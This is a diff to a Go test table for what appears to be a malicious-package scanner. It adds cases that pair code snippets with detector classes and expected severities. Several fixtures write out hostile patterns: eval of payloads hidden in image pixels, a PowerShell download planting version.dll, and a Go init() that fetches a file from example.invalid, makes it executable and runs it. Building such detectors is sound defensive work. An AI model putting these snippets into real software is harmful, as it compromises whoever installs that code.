@@ -45,6 +45,9 @@ func TestBehaviourClasses(t *testing.T) {
 		{"js image bytes evaluated", map[string]string{"lib/x.js": "const b = fs.readFileSync(__dirname + '/logo.png');\neval(b.slice(1024).toString());\n"}, "image-payload", record.Medium, 0},
 		{"js image bytes resized", map[string]string{"lib/x.js": "const b = fs.readFileSync(__dirname + '/logo.png');\nmodule.exports = sharp(b).resize(64).toBuffer();\n"}, "image-payload", quiet, 0},
 
+		{"js pixels evaluated at import", map[string]string{"package.json": `{"name":"x","main":"index.js"}`, "index.js": "const d = ctx.getImageData(0, 0, w, h).data; eval(String.fromCharCode(...d.filter((_, i) => i % 4 === 0)));\n"}, "image-payload", record.High, 0},
+		{"js bundle with an image decoder and a template compiler", map[string]string{"lib/bundle.js": "var PNG = require('pngjs').PNG;\nfunction decode(b) { return PNG.sync.read(b).data; }\nfunction compile(src) { return new Function('o', src); }\nconst x = eval('1+1');\nconst img = fs.readFileSync(path.join(dir, 'icon.png'));\nhttps.get(u, cb);\n"}, "image-payload", record.Info, record.Medium},
+
 		// dynamic-import
 		{"alias in ordinary code", map[string]string{"acme/util.py": "from os import system as s\ns('ls')\n"}, "dynamic-import", record.Low, 0},
 		{"alias in setup.py", map[string]string{"setup.py": "from os import system as s\nfrom setuptools import setup\ns('sh /tmp/x')\nsetup(name='x')\n"}, "dynamic-import", record.High, 0},
@@ -53,6 +56,7 @@ func TestBehaviourClasses(t *testing.T) {
 		// native-loader-abuse
 		{"powershell plants version.dll", map[string]string{"tools/fix.ps1": "Invoke-WebRequest -Uri 'https://example.invalid/v' -OutFile \"$env:LOCALAPPDATA\\Acme\\version.dll\"\n"}, "native-loader-abuse", record.Medium, 0},
 		{"batch rundll32 of a temp dll", map[string]string{"tools/run.cmd": "rundll32 %TEMP%\\acme.dll,Start\n"}, "native-loader-abuse", record.Low, 0},
+		{"js rundll32 opener split over lines", map[string]string{"lib/open.js": "const [cmd, ...args] = win ? [\n  'rundll32',\n  'url.dll,FileProtocolHandler'\n] : ['xdg-open'];\n"}, "native-loader-abuse", quiet, 0},
 		{"batch rundll32 opening a URL", map[string]string{"tools/open.cmd": "rundll32 url.dll,FileProtocolHandler https://example.invalid/docs\n"}, "native-loader-abuse", quiet, 0},
 
 		// clipboard-hijack
@@ -72,7 +76,11 @@ func TestBehaviourClasses(t *testing.T) {
 		// go-exec-payload: more forms
 		{"go runs bytes as the program", map[string]string{"x/x.go": "package x\n\nimport \"os/exec\"\n\nfunc Run(b []byte) { exec.Command(string(b)).Run() }\n"}, "go-exec-payload", record.Medium, 0},
 		{"go cmd /C of bytes", map[string]string{"x/x.go": "package x\n\nimport \"os/exec\"\n\nfunc Run(b []byte) { exec.Command(\"cmd\", \"/C\", string(b)).Run() }\n"}, "go-exec-payload", record.Medium, 0},
-		{"go download made executable", map[string]string{"x/x.go": "package x\n\nimport (\n\t\"io\"\n\t\"net/http\"\n\t\"os\"\n\t\"os/exec\"\n)\n\nfunc init() {\n\tr, _ := http.Get(\"https://example.invalid/a\")\n\tb, _ := io.ReadAll(r.Body)\n\tos.WriteFile(\"/tmp/a\", b, 0755)\n\texec.Command(\"/tmp/a\").Start()\n}\n"}, "go-exec-payload", record.Critical, 0},
+		{"go download made executable", map[string]string{"x/x.go": "package x\n\nimport (\n\t\"io\"\n\t\"net/http\"\n\t\"os\"\n\t\"os/exec\"\n)\n\nfunc init() {\n\tr, _ := http.Get(\"https://example.invalid/a\")\n\tb, _ := io.ReadAll(r.Body)\n\tos.WriteFile(\"/tmp/a\", b, 0755)\n\texec.Command(\"/tmp/a\").Start()\n}\n"}, "download-exec", record.High, 0},
+		{"go test helper opens a socket dir", map[string]string{"x/x.go": "package x\n\nimport (\n\t\"net/http\"\n\t\"os\"\n\t\"os/exec\"\n)\n\n" +
+			"func Start() error {\n\tif err := os.Chmod(sockDir, 0o777); err != nil {\n\t\treturn err\n\t}\n\t_, _ = http.Get(\"http://localhost/_ping\")\n\treturn exec.Command(\"dockerd\").Start()\n}\n"}, "download-exec", quiet, 0},
+		{"go test helper opens a socket dir (go-exec-payload)", map[string]string{"x/x.go": "package x\n\nimport (\n\t\"net/http\"\n\t\"os\"\n\t\"os/exec\"\n)\n\n" +
+			"func Start() error {\n\tif err := os.Chmod(sockDir, 0o777); err != nil {\n\t\treturn err\n\t}\n\t_, _ = http.Get(\"http://localhost/_ping\")\n\treturn exec.Command(\"dockerd\").Start()\n}\n"}, "go-exec-payload", quiet, 0},
 		{"go writes a config then builds", map[string]string{"x/x.go": "package x\n\nimport (\n\t\"os\"\n\t\"os/exec\"\n)\n\nfunc Build(b []byte) error {\n\tos.WriteFile(\"gen.go\", b, 0644)\n\treturn exec.Command(\"go\", \"build\", \"./...\").Run()\n}\n"}, "go-exec-payload", quiet, 0},
 
 		// generated Go code: syscall tables name APIs without using them
